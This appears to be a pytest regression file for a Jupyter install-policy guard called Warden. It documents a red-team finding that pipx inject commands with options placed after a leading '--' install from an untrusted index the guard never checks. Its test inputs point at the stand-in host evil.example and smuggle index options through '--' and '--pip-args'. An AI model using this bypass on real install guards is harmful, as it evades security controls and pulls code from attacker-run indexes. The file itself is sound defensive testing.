"""Red team 47b R47b-1 (HIGH): ``pipx inject -- --index-url=URL VENV PKG`` installs PKG from an
index the policy does not trust, and Warden reads no index at all.

pipx parses ``inject`` with ``parse_intermixed_args`` (pipx/main.py ``parse_pipx_args``), not
``parse_args``. On the Python pipx runs with here (3.11), a leading ``--`` does NOT end the
options there: the intermixed parse's first pass drops it, and the second pass reads the words
after it as options again. So pipx takes ``--index-url=URL`` (also ``-iURL``,
``--pip-args=...``, and an option after the positionals: ``-- VENV PKG --index-url=URL``) as
its index, VENV as the environment and PKG as the dependency.

Warden's pipx reader (``installs/pipx_cli.py`` ``_leaf``, the ``word == "--"`` branch) reads
every word after ``--`` as a positional, for every command: the index word becomes the venv
name (``positionals[0]``, never decided), VENV and PKG become dependencies decided against the
DEFAULT index, no source is recorded, and the install is allowed with no finding.

Fix (mechanism): read ``inject`` as ``parse_intermixed_args`` does on the pipx's Python (a
``--`` before the first positional is dropped and the words after it still parse as options),
or refuse ``--`` in an ``inject`` line; hold the rule to the real pipx parser in
test_pipx_cli.py's corpus (its lines have no ``--`` today) and mirror it in src/deps/pipxcli.ts.
"""

import contextlib
import io
import os

import pytest

from jupyterlab_warden.kernel.guard.installs import decide, gate
from jupyterlab_warden.kernel.guard.installs.data import DepsData

POLICY = {"schema_version": 1, "revision": 1}  # the default trusted index (PyPI) only
EVIL = "https://evil.example/simple"

LINES = [
    ["inject", "--", f"--index-url={EVIL}", "black", "requests"],
    ["inject", "--", f"-i{EVIL}", "black", "requests"],
    ["inject", "--", "black", "requests", f"--index-url={EVIL}"],
]
PIP_ARGS = ["inject", "--", f"--pip-args=--extra-index-url {EVIL}", "black", "requests"]


def _env(tmp_path):
    return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path)}


def _findings(words, tmp_path):
    out = []
    for request in gate.read_requests(["pipx", *words], None, _env(tmp_path), str(tmp_path)):
        out += decide.decide(request, POLICY, DepsData())
    return out


@pytest.fixture(scope="module")
def real_pipx(tmp_path_factory):
    pytest.importorskip("pipx", reason="pipx is pinned in requirements-dev.txt")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PIPX_HOME", str(tmp_path_factory.mktemp("pipx-home-47b")))
        from pipx.main import check_args, get_command_parser, parse_pipx_args

        parser, _ = get_command_parser()

        def parse(words):
            with contextlib.redirect_stderr(io.StringIO()):
                ns = parse_pipx_args(parser, list(words))
                check_args(ns)
            return ns

        yield parse


@pytest.mark.parametrize("words", LINES, ids=["long-eq", "short-attached", "after-positionals"])
def test_r47b_1_control_pipx_takes_the_index_after_a_leading_dashdash(real_pipx, words):
    ns = real_pipx(words)
    assert ns.index_url == EVIL
    assert ns.package == "black" and ns.dependencies == ["requests"]


def test_r47b_1_control_pipx_takes_pip_args_after_a_leading_dashdash(real_pipx):
    ns = real_pipx(PIP_ARGS)
    assert ns.pip_args == f"--extra-index-url {EVIL}" and ns.dependencies == ["requests"]


def test_r47b_1_control_without_dashdash_the_index_is_refused(tmp_path):
    found = _findings(["inject", f"--index-url={EVIL}", "black", "requests"], tmp_path)
    assert any("evil.example" in f.message for f in found), [f.message for f in found]


@pytest.mark.parametrize(
    "words", LINES + [PIP_ARGS], ids=["long-eq", "short-attached", "after-positionals", "pip-args"]
)
def test_r47b_1_the_untrusted_index_after_dashdash_is_refused(words, tmp_path):
    found = _findings(words, tmp_path)
    # FAILS today (all but after-positionals, which is refused as a '-' package, unreadable):
    # no finding at all, the install runs from evil.example
    assert found, "pipx inject from an untrusted index allowed"
    assert any(f.rule_id in (decide.RULE_INDEX, decide.RULE_UNREADABLE) for f in found)
